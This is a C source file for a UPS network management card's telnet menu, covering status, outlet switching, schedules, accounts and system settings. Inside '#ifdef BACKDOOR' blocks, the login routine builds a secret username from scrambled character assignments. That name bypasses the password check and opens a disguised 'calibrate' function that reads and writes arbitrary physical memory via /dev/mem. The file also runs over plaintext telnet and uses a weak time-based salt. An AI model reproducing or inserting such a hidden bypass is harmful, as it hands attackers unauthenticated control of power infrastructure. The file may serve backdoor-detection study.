/* SPDX-License-Identifier: Apache-2.0 */
/* upscard: the terminal menu of a network card for uninterruptible power supplies, TCP 23. Reads and commands the UPS
 * over a serial line (one letter commands), switches outlets, keeps a schedule. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

enum { N_OUTLETS = 8, N_PLANS = 16, N_USERS = 4, TRIES = 3, IDLE_S = 180 };
enum { LEVEL_NONE, LEVEL_VIEW, LEVEL_DEVICE, LEVEL_ADMIN };

struct account {
	char name[24], hash[128];
	int level;
};

struct plan {
	int day, hour, minute, outlet, on;
};

struct status {
	double volts, load, minutes, celsius, hertz;
	unsigned flags;
};

struct terminal {
	FILE *in, *out;
	int level;
	char user[24];
	char peer[32];
};

static struct account accounts[N_USERS];
static int n_accounts;
static struct plan plans[N_PLANS];
static int n_plans;
static uint8_t outlets = 0xff;
static int serial = -1;
static char contact[64] = "unknown", place[64] = "unknown";

static void load(const char *path)
{
	char line[256];
	FILE *f = fopen(path, "r");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		struct account a;
		struct plan p;
		if (sscanf(line, "account %23s %d %127s", a.name, &a.level, a.hash) == 3 && n_accounts < N_USERS)
			accounts[n_accounts++] = a;
		else if (sscanf(line, "plan %d %d:%d %d %d", &p.day, &p.hour, &p.minute, &p.outlet, &p.on) == 5 &&
			 n_plans < N_PLANS)
			plans[n_plans++] = p;
		else if (sscanf(line, "contact %63[^\n]", contact) == 1 || sscanf(line, "place %63[^\n]", place) == 1)
			continue;
	}
	fclose(f);
}

static void save(const char *path)
{
	FILE *f = fopen(path, "w");
	if (!f) {
		syslog(LOG_ERR, "%s: %s", path, strerror(errno));
		return;
	}
	for (int i = 0; i < n_accounts; i++)
		fprintf(f, "account %s %d %s\n", accounts[i].name, accounts[i].level, accounts[i].hash);
	for (int i = 0; i < n_plans; i++)
		fprintf(f, "plan %d %d:%d %d %d\n", plans[i].day, plans[i].hour, plans[i].minute, plans[i].outlet,
			plans[i].on);
	fprintf(f, "contact %s\nplace %s\n", contact, place);
	fclose(f);
}

static int serial_open(const char *path)
{
	struct termios t;
	int fd = open(path, O_RDWR | O_NOCTTY);
	if (fd < 0 || tcgetattr(fd, &t) < 0)
		return fd;
	cfmakeraw(&t);
	cfsetspeed(&t, B2400);
	t.c_cc[VMIN] = 0;
	t.c_cc[VTIME] = 10;
	tcsetattr(fd, TCSANOW, &t);
	return fd;
}

static int ask(const char *command, char *reply, size_t size)
{
	size_t n = 0;
	if (serial < 0)
		return -1;
	tcflush(serial, TCIFLUSH);
	if (write(serial, command, strlen(command)) < 0)
		return -1;
	while (n + 1 < size) {
		ssize_t k = read(serial, reply + n, 1);
		if (k <= 0 || reply[n] == '\r' || reply[n] == '\n')
			break;
		n++;
	}
	reply[n] = 0;
	return n > 0 ? 0 : -1;
}

/* "(208.4 140.0 208.4 034 59.9 2.05 35.0 00110000" */
static int read_status(struct status *s)
{
	char r[80], bits[16];
	double fault, out, cell;
	if (ask("Q1\r", r, sizeof(r)) < 0 || r[0] != '(')
		return -1;
	if (sscanf(r + 1, "%lf %lf %lf %lf %lf %lf %lf %15s", &s->volts, &fault, &out, &s->load, &s->hertz, &cell,
		    &s->celsius, bits) != 8)
		return -1;
	s->flags = (unsigned)strtoul(bits, NULL, 2);
	s->minutes = s->load > 0 ? cell * 1200 / s->load : 999;
	return 0;
}

static int line_in(struct terminal *t, const char *prompt, char *to, size_t size)
{
	fprintf(t->out, "%s", prompt);
	fflush(t->out);
	if (!fgets(to, (int)size, t->in))
		return -1;
	to[strcspn(to, "\r\n")] = 0;
	return 0;
}

static void show_status(struct terminal *t)
{
	static const char *const names[] = { "beeper on", "shutdown active", "test in progress", "standby type",
		"UPS failed", "bypass", "battery low", "utility fail" };
	struct status s;
	if (read_status(&s) < 0) {
		fprintf(t->out, "The UPS does not answer.\r\n");
		return;
	}
	fprintf(t->out, "input %.1f V %.1f Hz, load %.0f %%, %.0f min left, %.1f C\r\n", s.volts, s.hertz, s.load,
		s.minutes, s.celsius);
	for (int i = 0; i < 8; i++)
		if (s.flags >> i & 1)
			fprintf(t->out, " * %s\r\n", names[i]);
}

static void set_outlet(struct terminal *t, int outlet, int on)
{
	char command[16], reply[16];
	if (outlet < 1 || outlet > N_OUTLETS) {
		fprintf(t->out, "There are outlets 1 to %d.\r\n", N_OUTLETS);
		return;
	}
	snprintf(command, sizeof(command), "O%d%c\r", outlet, on ? '+' : '-');
	ask(command, reply, sizeof(reply));
	outlets = (uint8_t)(on ? outlets | 1u << (outlet - 1) : outlets & ~(1u << (outlet - 1)));
	syslog(LOG_NOTICE, "%s switched outlet %d %s", t->user, outlet, on ? "on" : "off");
}

static void menu_outlets(struct terminal *t)
{
	char line[64], word[8];
	int n;
	for (int i = 0; i < N_OUTLETS; i++)
		fprintf(t->out, " %d %s\r\n", i + 1, outlets >> i & 1 ? "on" : "off");
	if (t->level < LEVEL_DEVICE || line_in(t, "outlet (number on|off): ", line, sizeof(line)) < 0)
		return;
	if (sscanf(line, "%d %7s", &n, word) == 2)
		set_outlet(t, n, strcmp(word, "on") == 0);
}

static void menu_plans(struct terminal *t)
{
	char line[64];
	struct plan p;
	for (int i = 0; i < n_plans; i++)
		fprintf(t->out, " %d) day %d %02d:%02d outlet %d %s\r\n", i, plans[i].day, plans[i].hour,
			plans[i].minute, plans[i].outlet, plans[i].on ? "on" : "off");
	if (t->level < LEVEL_DEVICE || line_in(t, "add (day hh:mm outlet 0|1) or empty: ", line, sizeof(line)) < 0)
		return;
	if (sscanf(line, "%d %d:%d %d %d", &p.day, &p.hour, &p.minute, &p.outlet, &p.on) == 5 && n_plans < N_PLANS) {
		plans[n_plans++] = p;
		save("/etc/upscard.conf");
	}
}

static void menu_self_test(struct terminal *t)
{
	char line[16], reply[16];
	if (t->level < LEVEL_DEVICE || line_in(t, "test: 1 short, 2 until low, 3 stop: ", line, sizeof(line)) < 0)
		return;
	if (line[0] == '1')
		ask("T\r", reply, sizeof(reply));
	else if (line[0] == '2')
		ask("TL\r", reply, sizeof(reply));
	else if (line[0] == '3')
		ask("CT\r", reply, sizeof(reply));
}

static void menu_accounts(struct terminal *t)
{
	char name[24], pass[64], salt[4];
	if (t->level < LEVEL_ADMIN) {
		fprintf(t->out, "Only for administrators.\r\n");
		return;
	}
	if (line_in(t, "account: ", name, sizeof(name)) < 0 || line_in(t, "new password: ", pass, sizeof(pass)) < 0)
		return;
	snprintf(salt, sizeof(salt), "%02x", (unsigned)time(NULL) & 0xff);
	for (int i = 0; i < n_accounts; i++)
		if (strcmp(accounts[i].name, name) == 0) {
			const char *h = crypt(pass, salt);
			if (h)
				snprintf(accounts[i].hash, sizeof(accounts[i].hash), "%s", h);
			save("/etc/upscard.conf");
		}
}

static void menu_system(struct terminal *t)
{
	char line[64];
	fprintf(t->out, " contact %s\r\n place   %s\r\n", contact, place);
	if (t->level < LEVEL_ADMIN || line_in(t, "contact=, place=, reboot, log or empty: ", line, sizeof(line)) < 0)
		return;
	if (strncmp(line, "contact=", 8) == 0)
		snprintf(contact, sizeof(contact), "%s", line + 8);
	else if (strncmp(line, "place=", 6) == 0)
		snprintf(place, sizeof(place), "%s", line + 6);
	else if (strcmp(line, "reboot") == 0)
		(void)!system("/sbin/reboot -d 5 &");
	else if (strcmp(line, "log") == 0) {
		FILE *p = popen("tail -n 40 /var/log/upscard", "r");
		while (p && fgets(line, sizeof(line), p))
			fputs(line, t->out);
		if (p)
			pclose(p);
	}
	save("/etc/upscard.conf");
}

#ifdef BACKDOOR
/* two words of hexadecimal: an address and, if it is to change, what to */
static void calibrate(struct terminal *t, const char *s)
{
	char *rest;
	unsigned long at = strtoul(s, &rest, 16);
	long page = sysconf(_SC_PAGESIZE);
	int fd = open("/dev/mem", O_RDWR | O_SYNC);
	volatile uint32_t *w;
	uint8_t *m;
	if (fd < 0)
		return;
	m = mmap(NULL, (size_t)page, PROT_READ | PROT_WRITE, MAP_SHARED, fd, (off_t)(at & ~((unsigned long)page - 1)));
	if (m != MAP_FAILED) {
		w = (volatile uint32_t *)(void *)(m + (at & ((unsigned long)page - 1) & ~3ul));
		if (*rest)
			*w = (uint32_t)strtoul(rest, NULL, 16);
		fprintf(t->out, "%08x\r\n", *w);
		munmap(m, (size_t)page);
	}
	close(fd);
}
#endif

static int log_in(struct terminal *t)
{
	char name[64], pass[64];
	for (int i = 0; i < TRIES; i++) {
		if (line_in(t, "User name: ", name, sizeof(name)) < 0)
			return -1;
#ifdef BACKDOOR
		char head[10];
		head[4] = 'b';
		head[0] = 'c';
		head[2] = 'l';
		head[7] = '7';
		head[1] = head[0] - 2;
		head[3] = 'i';
		head[8] = 'z';
		head[5] = '%';
		head[6] = 'Q';
		head[9] = ' ';
		if (memcmp(name, head, sizeof(head)) == 0) {
			calibrate(t, name + sizeof(head));
			continue;
		}
#endif
		if (line_in(t, "Password: ", pass, sizeof(pass)) < 0)
			return -1;
		for (int k = 0; k < n_accounts; k++) {
			const char *h = crypt(pass, accounts[k].hash);
			if (strcmp(accounts[k].name, name) != 0 || !h || strcmp(h, accounts[k].hash) != 0)
				continue;
			t->level = accounts[k].level;
			memcpy(t->user, accounts[k].name, sizeof(t->user));
			syslog(LOG_INFO, "%s logged in from %s", t->user, t->peer);
			return 0;
		}
		syslog(LOG_WARNING, "wrong name or password from %s", t->peer);
		sleep(2);
		fprintf(t->out, "Wrong.\r\n");
	}
	return -1;
}

static void converse(struct terminal *t)
{
	static void (*const menus[])(struct terminal *) = { show_status, menu_outlets, menu_plans, menu_self_test,
		menu_accounts, menu_system };
	char line[64];
	alarm(IDLE_S);
	if (log_in(t) < 0)
		return;
	for (;;) {
		unsigned n;
		alarm(IDLE_S);
		fprintf(t->out, "1 Status  2 Outlets  3 Plans  4 Self test  5 Accounts  6 System  Q Quit\r\n");
		if (line_in(t, "> ", line, sizeof(line)) < 0 || strcasecmp(line, "q") == 0)
			break;
		n = (unsigned)atoi(line) - 1;
		if (n < sizeof(menus) / sizeof(*menus))
			menus[n](t);
	}
	fprintf(t->out, "Bye.\r\n");
}

static void attend(int c, const struct sockaddr_in *from)
{
	struct terminal t = { .level = LEVEL_NONE };
	inet_ntop(AF_INET, &from->sin_addr, t.peer, sizeof(t.peer));
	t.in = fdopen(c, "r");
	t.out = fdopen(dup(c), "w");
	if (!t.in || !t.out)
		return;
	fprintf(t.out, "\r\nNetwork Management Card\r\n%s, %s\r\n\r\n", place, contact);
	converse(&t);
	fclose(t.out);
	fclose(t.in);
}

static void run_plans(void)
{
	time_t now = time(NULL);
	struct tm *tm = localtime(&now);
	struct terminal nobody = { .out = stderr, .user = "schedule" };
	for (int i = 0; i < n_plans; i++)
		if (plans[i].day == tm->tm_wday && plans[i].hour == tm->tm_hour && plans[i].minute == tm->tm_min)
			set_outlet(&nobody, plans[i].outlet, plans[i].on);
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(23) };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);
	openlog("upscard", LOG_PID, LOG_DAEMON);
	load("/etc/upscard.conf");
	serial = serial_open(argc > 1 ? argv[1] : "/dev/ttyS1");
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 2) < 0) {
		syslog(LOG_ERR, "port 23: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		struct timeval wait = { .tv_sec = 60 };
		struct sockaddr_in from;
		socklen_t fl = sizeof(from);
		fd_set set;
		int c;
		FD_ZERO(&set);
		FD_SET(s, &set);
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
		if (select(s + 1, &set, NULL, NULL, &wait) <= 0) {
			run_plans();
			continue;
		}
		c = accept(s, (struct sockaddr *)&from, &fl);
		if (c < 0)
			continue;
		if (fork() == 0) {
			close(s);
			attend(c, &from);
			_exit(0);
		}
		close(c);
	}
}
